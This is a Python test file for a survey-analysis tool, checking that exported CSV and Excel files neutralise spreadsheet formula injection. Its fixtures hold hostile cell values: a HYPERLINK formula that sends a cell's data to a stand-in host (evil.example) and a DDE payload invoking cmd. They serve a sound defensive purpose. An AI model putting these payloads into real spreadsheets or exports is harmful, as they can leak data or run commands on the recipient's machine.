"""No live formula in the analysis outputs (issue 11, item 5): unit names and comments that a
spreadsheet would run (``=``, ``+``, ``-``, ``@``, tab, CR) get a leading ``'`` in every CSV and in
resultater.xlsx, the same way as everywhere else (frisat.cells); numbers stay numbers."""

from __future__ import annotations

import csv
import io

import numpy as np
import pandas as pd
from openpyxl import load_workbook

from frisat.cells import FORMULA_START
from frisat.core.analysis import AnalysisConfig, analyze
from frisat.reporting import write_outputs
from frisat.reporting.tables import write_csv
from tests.reporting.conftest import make_frame

EVIL_KOMMUNE = '=HYPERLINK("https://evil.example/?"&A1,"Klik")'
EVIL_OMRAADE = "@SUM(1+1)*cmd|' /C calc'!A0"
EVIL_COMMENT = "-2+3 og +45"


def _cells(path):
    with open(path, encoding="utf-8-sig", newline="") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def test_summary_and_respondents_csv_and_the_workbook_carry_no_formula(instrument, tmp_path):
    frame = make_frame(instrument, [(EVIL_KOMMUNE, EVIL_OMRAADE, 12), ("Aby", "skole", 9)], seed=3)
    frame["regler_kommentar"] = pd.array([EVIL_COMMENT] * len(frame), dtype="string")
    result = analyze(frame, instrument, by=["kommune", "omraade"], config=AnalysisConfig(min_n=5))
    write_outputs(result, frame, tmp_path, pdf=False)
    for name in ("summary.csv", "respondents.csv"):
        cells = _cells(tmp_path / name)
        assert "'" + EVIL_KOMMUNE in cells and "'" + EVIL_OMRAADE in cells, name
        assert not [c for c in cells if c[:1] in FORMULA_START and not _is_number(c)], name
    workbook = load_workbook(tmp_path / "resultater.xlsx")
    texts = [cell.value for sheet in workbook for row in sheet.iter_rows() for cell in row
             if isinstance(cell.value, str)]
    assert "'" + EVIL_KOMMUNE in texts and "'" + EVIL_OMRAADE in texts
    assert "'" + EVIL_COMMENT in texts
    assert not [t for t in texts if t[:1] in FORMULA_START]
    assert not [cell for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_write_csv_quotes_text_and_names_but_keeps_negative_numbers(tmp_path):
    # the writer of summary.csv, followup.csv, derived_importance.csv, relative_importance.csv …
    table = pd.DataFrame({"enhed": [EVIL_OMRAADE, "Vugge", "- se bilag"], "value": [-0.5, 1.25, np.nan],
                          "n": [-3, 4, 5], "=navn": ["a", "b", "c"]})
    path = write_csv(table, tmp_path / "followup.csv")
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))
    assert rows[0] == ["enhed", "value", "n", "'=navn"]
    assert rows[1] == ["'" + EVIL_OMRAADE, "-0.5", "-3", "a"]
    assert rows[3] == ["'- se bilag", "", "5", "c"]
